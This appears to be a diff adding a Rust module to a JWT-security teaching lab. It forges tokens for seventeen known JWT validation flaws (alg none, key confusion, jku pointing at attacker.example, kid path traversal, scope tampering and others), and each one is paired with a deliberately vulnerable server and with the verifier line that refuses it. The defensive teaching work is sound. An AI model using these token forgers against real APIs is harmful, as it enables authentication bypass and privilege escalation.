@@ -1,0 +1,462 @@
+//! The attacks: what somebody has, and what can be made of it.
+
+use aws_lc_rs::signature::RsaKeyPair;
+use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD};
+use serde_json::{Value, json};
+use verify_signature::tamper;
+
+use crate::forge::{self, hs256, jwk, kid, rs256};
+use crate::naive::{self, Verdict};
+use crate::{Api, LabError};
+
+/// One attack: a token, a server that falls for it, and the line of the steps that does not.
+#[derive(Clone, Copy, Debug)]
+pub struct Attack {
+    /// What it is called on the command line.
+    pub name: &'static str,
+    /// The idea in one line.
+    pub title: &'static str,
+    /// The sections of specifications that warn of it.
+    pub rfc: &'static str,
+    /// What the attacker begins with.
+    pub has: &'static str,
+    /// What the attacker makes of it.
+    pub does: &'static str,
+    /// Makes the token.
+    pub token: fn(&Attacker) -> String,
+    /// The server that is weak in this place.
+    pub naive: fn(&str, &Api) -> Verdict,
+    /// The step that refuses it.
+    pub step: &'static str,
+    /// The line that stops it.
+    pub line: Line,
+}
+
+/// A line of code in the steps.
+#[derive(Clone, Copy, Debug)]
+pub struct Line {
+    /// The file, from the workspace's root.
+    pub file: &'static str,
+    /// The item in it, as `Type::method`.
+    pub item: &'static str,
+    /// The line's text.
+    pub code: &'static str,
+}
+
+impl Attack {
+    /// The attack of that name.
+    ///
+    /// # Errors
+    /// [`LabError::NoSuchAttack`]
+    pub fn named(name: &str) -> Result<&'static Self, LabError> {
+        let found = ATTACKS.iter().find(|attack| attack.name == name);
+        found.ok_or_else(|| LabError::NoSuchAttack(name.to_owned()))
+    }
+}
+
+/// All attacks: on the header and the keys, on the signature, on the claims.
+pub const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "alg-none",
+        title: "The token says that it needs no signature",
+        rfc: "RFC 8725 §2.1, §3.1",
+        has: "a token of their own, without the scope",
+        does: "writes the scope into it, sets alg to none, leaves the signature empty",
+        token: |attacker| attacker.unsigned(r#"{"alg":"none","typ":"JWT"}"#),
+        naive: naive::alg_none,
+        step: "03",
+        line: Line {
+            file: HEADER,
+            item: "Header::judge",
+            code: "let Some(algorithm) = algorithm else {",
+        },
+    },
+    Attack {
+        name: "duplicate-alg",
+        title: "Two parsers read two different algorithms",
+        rfc: "RFC 7515 §4, RFC 8725 §3.1",
+        has: "a token of their own, without the scope",
+        does: "does the same as for alg-none, and adds a second alg to the header",
+        token: |attacker| attacker.unsigned(r#"{"alg":"none","alg":"RS256","typ":"JWT"}"#),
+        naive: naive::duplicate_alg,
+        step: "03",
+        line: Line {
+            file: "02-decode-jwt/src/object.rs",
+            item: "UniqueVisitor::visit_map",
+            code: "let Entry::Vacant(member) = members.entry(name) else {",
+        },
+    },
+    Attack {
+        name: "key-confusion",
+        title: "The public key serves as a shared secret",
+        rfc: "RFC 8725 §2.1, §3.1",
+        has: "the issuer's public key, as everybody",
+        does: "signs with HS256, and takes the text of the public key's file as the secret",
+        token: Attacker::signed_with_the_public_key,
+        naive: naive::key_confusion,
+        step: "03",
+        line: Line {
+            file: "03-verify-signature/src/policy.rs",
+            item: "Policy::new",
+            code: "let algorithms = vec![Algorithm::RS256];",
+        },
+    },
+    Attack {
+        name: "embedded-jwk",
+        title: "The token brings its own key",
+        rfc: "RFC 7515 §4.1.3, RFC 8725 §3.10",
+        has: "a key pair of their own",
+        does: "signs with it, and puts the public half into the header",
+        token: |attacker| {
+            let key = jwk(&attacker.key);
+            attacker.forged(json!({"kid": kid(&attacker.issuers), "jwk": key}))
+        },
+        naive: naive::embedded_jwk,
+        step: "03",
+        line: Line {
+            file: HEADER,
+            item: "Header::judge",
+            code: "Ok(Self { algorithm, kid })",
+        },
+    },
+    Attack {
+        name: "jku",
+        title: "The token says where its key is",
+        rfc: "RFC 7515 §4.1.2, RFC 8725 §2.9, §3.10",
+        has: "a key pair of their own, and a web server",
+        does: "names a URL on their own host, with the issuer's as a user name before @",
+        token: |attacker| {
+            let site = Attacker::SITE.trim_start_matches("https://");
+            let url = format!("{}@{site}", origin(&attacker.issuer));
+            attacker.forged(json!({"kid": kid(&attacker.key), "jku": url}))
+        },
+        naive: naive::jku,
+        step: "03",
+        line: Line {
+            file: "03-verify-signature/src/main.rs",
+            item: "verify",
+            code: "let keys = fetch_keys(&http, &metadata.jwks_uri).await?;",
+        },
+    },
+    Attack {
+        name: "kid-path",
+        title: "The key's name is a way through the disk",
+        rfc: "RFC 7515 §4.1.4, RFC 8725 §2.9, §3.10",
+        has: "a key pair of their own, and the right to upload a picture",
+        does: "uploads the public half as a picture, and names that file as the key",
+        token: |attacker| attacker.forged(json!({"kid": format!("../{}", Attacker::UPLOAD)})),
+        naive: naive::kid_path,
+        step: "03",
+        line: Line {
+            file: KEYS,
+            item: "KeySet::verify",
+            code: "let key = match self.0.get(&header.kid) {",
+        },
+    },
+    Attack {
+        name: "unknown-kid",
+        title: "An unknown key is no reason to refuse",
+        rfc: "RFC 7515 §5.2, RFC 8725 §3.3",
+        has: "a key pair of their own",
+        does: "signs with it, and names a key that does not exist",
+        token: |attacker| attacker.forged(json!({"kid": "next-year"})),
+        naive: naive::unknown_kid,
+        step: "03",
+        line: Line {
+            file: KEYS,
+            item: "KeySet::verify",
+            code: "return Err(Refusal::UnknownKey {",
+        },
+    },
+    Attack {
+        name: "own-issuer",
+        title: "The attacker is an issuer, too",
+        rfc: "RFC 7519 §4.1.1, RFC 8725 §3.8",
+        has: "a key pair of their own, and a web server that looks like an issuer",
+        does: "issues a token, with their own address as iss",
+        token: |attacker| {
+            let header = json!({"kid": kid(&attacker.key)});
+            let iss = json!({"iss": "https://attacker.example/realms/myorg"});
+            attacker.signed_by(&attacker.key, header, iss)
+        },
+        naive: naive::own_issuer,
+        step: "03",
+        line: Line {
+            file: "03-verify-signature/src/main.rs",
+            item: "verify",
+            code: "let metadata = fetch_metadata(&http, issuer.url()).await?;",
+        },
+    },
+    Attack {
+        name: "scope-raised",
+        title: "The payload is another one than was signed",
+        rfc: "RFC 7515 §5.2, RFC 8725 §3.3",
+        has: "a token of their own, without the scope",
+        does: "writes the scope into it, and leaves the old signature where it was",
+        token: |attacker| {
+            let token = attacker.own_token();
+            tamper(&token, "scope", "test_api_access".into()).unwrap_or(token)
+        },
+        naive: naive::scope_raised,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::verify",
+            code: "keys.verify(&header, segments.signing_input, segments.signature)?;",
+        },
+    },
+    Attack {
+        name: "other-spelling",
+        title: "A stolen token in another spelling",
+        rfc: "RFC 4648 §3.5, RFC 7515 §2",
+        has: "a stolen token, which the API has on its list",
+        does: "changes bits at the end of its last letter, which encode nothing",
+        token: |attacker| respelled(&attacker.stolen_token()),
+        naive: naive::other_spelling,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::verify",
+            code: "decode_base64url(Part::Signature, segments.signature)?;",
+        },
+    },
+    Attack {
+        name: "crit",
+        title: "A demand of the issuer is ignored",
+        rfc: "RFC 7515 §4.1.11",
+        has: "a stolen token whose end is in the header, marked as critical",
+        does: "sends it an hour after that end",
+        token: |attacker| {
+            let ended = json!({"crit": ["exp"], "exp": attacker.now - 3600});
+            attacker.issued(ended, json!({}))
+        },
+        naive: naive::crit,
+        step: "03",
+        line: Line {
+            file: HEADER,
+            item: "Header::judge",
+            code: "if members.contains_key(\"crit\") {",
+        },
+    },
+    Attack {
+        name: "other-realm",
+        title: "Another issuer whose name begins alike",
+        rfc: "RFC 7519 §4.1.1, RFC 8725 §3.8",
+        has: "a token of another realm, on a server that signs for all realms with one key",
+        does: "sends it as it is",
+        token: |attacker| {
+            let iss = format!("{}_test", attacker.issuer);
+            attacker.issued(json!({}), json!({"iss": iss}))
+        },
+        naive: naive::other_realm,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::judge_claims",
+            code: "if claims.iss != *issuer {",
+        },
+    },
+    Attack {
+        name: "other-audience",
+        title: "A token for another API",
+        rfc: "RFC 7519 §4.1.3, RFC 8725 §3.9",
+        has: "an API of their own, to which clients of the same issuer send their tokens",
+        does: "sends on what a client has sent to it",
+        token: |attacker| attacker.issued(json!({}), json!({"aud": "attackers_api"})),
+        naive: naive::other_audience,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::judge_claims",
+            code: "if !claims.aud.contains(audience) {",
+        },
+    },
+    Attack {
+        name: "expired",
+        title: "A token that has ended",
+        rfc: "RFC 7519 §4.1.4",
+        has: "a token from an old log file",
+        does: "sends it as it is",
+        token: |attacker| {
+            let (iat, exp) = (attacker.now - 7200, attacker.now - 3600);
+            attacker.issued(json!({}), json!({"iat": iat, "exp": exp}))
+        },
+        naive: naive::expired,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::judge_claims",
+            code: "if now >= claims.exp.saturating_add(LEEWAY) {",
+        },
+    },
+    Attack {
+        name: "no-exp",
+        title: "A token without an end",
+        rfc: "RFC 7519 §4.1.4, RFC 9068 §2.2",
+        has: "a stolen token, of an issuer that can be set up to leave out exp",
+        does: "sends it as it is, next year as well",
+        token: |attacker| attacker.issued(json!({}), json!({"exp": null})),
+        naive: naive::no_exp,
+        step: "03",
+        line: Line {
+            file: CLAIMS,
+            item: "Claims",
+            code: "pub exp: u64,",
+        },
+    },
+    Attack {
+        name: "not-yet-valid",
+        title: "A token that begins tomorrow",
+        rfc: "RFC 7519 §4.1.5",
+        has: "a token that was issued today for tomorrow",
+        does: "sends it today",
+        token: |attacker| {
+            let nbf = attacker.now + 86_400;
+            attacker.issued(json!({}), json!({"nbf": nbf, "exp": nbf + 300}))
+        },
+        naive: naive::not_yet_valid,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::judge_claims",
+            code: "if let Some(nbf) = ahead(claims.nbf) {",
+        },
+    },
+    Attack {
+        name: "id-token",
+        title: "A token that was made for something else",
+        rfc: "RFC 8725 §2.8, §3.11, §3.12",
+        has: "an ID token, which an application shows to its users' browsers",
+        does: "sends it in place of an access token",
+        token: |attacker| attacker.issued(json!({}), json!({"typ": "ID"})),
+        naive: naive::id_token,
+        step: "03",
+        line: Line {
+            file: VERIFIER,
+            item: "Verifier::judge_claims",
+            code: "if let Some(typ) = claims.typ.as_ref().filter(|typ| *typ != \"Bearer\") {",
+        },
+    },
+    Attack {
+        name: "scope-substring",
+        title: "A scope whose name contains the one that is demanded",
+        rfc: "RFC 6749 §3.3",
+        has: "a token with a scope of another name, which is theirs by right",
+        does: "sends it as it is",
+        token: |attacker| attacker.issued(json!({}), json!({"scope": "test_api_access_trial"})),
+        naive: naive::scope_substring,
+        step: "04",
+        line: Line {
+            file: CLAIMS,
+            item: "Scopes::contains",
+            code: "scopes.any(|scope| scope == name.as_bytes())",
+        },
+    },
+];
+
+const HEADER: &str = "03-verify-signature/src/header.rs";
+const KEYS: &str = "03-verify-signature/src/keys.rs";
+const VERIFIER: &str = "03-verify-signature/src/verifier.rs";
+const CLAIMS: &str = "03-verify-signature/src/claims.rs";
+
+/// Somebody who wants in: a client of the same issuer, whose tokens lack the scope.
+pub struct Attacker {
+    issuer: String,
+    now: u64,
+    /// The attacker's own key pair.
+    key: RsaKeyPair,
+    /// The issuer's, which the attacker does not have. It signs what the issuer would have signed;
+    /// that the lab can do it is because the realm's key is published.
+    issuers: RsaKeyPair,
+}
+
+impl Attacker {
+    /// The attacker's web server.
+    pub const SITE: &str = "https://attacker.example/keys";
+    /// The attacker's picture on the API's disk.
+    pub const UPLOAD: &str = "uploads/picture.png";
+
+    /// An attacker of an API that trusts `issuer`, at this time.
+    ///
+    /// # Errors
+    /// [`LabError::Key`]
+    pub fn new(issuer: &str, now: u64) -> Result<Self, LabError> {
+        Ok(Self {
+            issuer: issuer.to_owned(),
+            now,
+            key: forge::strangers_key()?,
+            issuers: forge::published_key()?,
+        })
+    }
+
+    /// The attacker's own token, as the issuer gave it: good, but with little scope.
+    #[must_use]
+    pub fn own_token(&self) -> String {
+        let claims = json!({"azp": "attacker", "scope": "profile"});
+        self.issued(json!({}), claims)
+    }
+
+    /// Somebody else's token, good for the API.
+    #[must_use]
+    pub fn stolen_token(&self) -> String {
+        self.issued(json!({}), json!({"jti": "stolen"}))
+    }
+
+    /// What the issuer signed, with these changes to a good token. A claim that is null is absent.
+    #[must_use]
+    pub fn issued(&self, header: Value, claims: Value) -> String {
+        let named = with(json!({"kid": kid(&self.issuers)}), header);
+        self.signed_by(&self.issuers, named, claims)
+    }
+
+    /// Good claims of the attacker's, signed by the attacker.
+    fn forged(&self, header: Value) -> String {
+        self.signed_by(&self.key, header, json!({"azp": "attacker"}))
+    }
+
+    fn signed_by(&self, key: &RsaKeyPair, header: Value, claims: Value) -> String {
+        let header = with(json!({"alg": "RS256", "typ": "JWT"}), header);
+        forge::token(&header, &self.claims(claims), |input| rs256(key, input))
+    }
+
+    fn unsigned(&self, header: &str) -> String {
+        let claims = self.claims(json!({"azp": "attacker"})).to_string();
+        let [header, payload] = [header, &claims].map(|part| BASE64_URL_SAFE_NO_PAD.encode(part));
+        forge::token_of(&header, &payload, |_| Vec::new())
+    }
+
+    fn signed_with_the_public_key(&self) -> String {
+        let file = forge::pem("PUBLIC KEY", &forge::spki(&self.issuers));
+        let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid(&self.issuers)});
+        let claims = self.claims(json!({"azp": "attacker"}));
+        forge::token(&header, &claims, |input| hs256(file.as_bytes(), input))
+    }
+
+    fn claims(&self, changes: Value) -> Value {
+        with(forge::claims_at(&self.issuer, self.now), changes)
+    }
+}
+
+/// The object with these members set, and those that are null removed.
+fn with(mut object: Value, changes: Value) -> Value {
+    if let (Value::Object(members), Value::Object(changes)) = (&mut object, changes) {
+        members.extend(changes);
+        members.retain(|_, value| !value.is_null());
+    }
+    object
+}
+
+/// A URL's scheme, host and port.
+fn origin(url: &str) -> String {
+    let url = url::Url::parse(url).ok();
+    url.map_or(String::new(), |url| url.origin().ascii_serialization())
+}
+
+/// The same bytes in other letters: the last of 342 letters stands for 2 bits, and has 6.
+fn respelled(token: &str) -> String {
+    let last = token.chars().last().unwrap_or_default();
+    let letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+    let next = letters.chars().skip_while(|letter| *letter != last).nth(1);
+    let rest = token.strip_suffix(last).unwrap_or(token);
+    format!("{rest}{}", next.unwrap_or(last))
+}
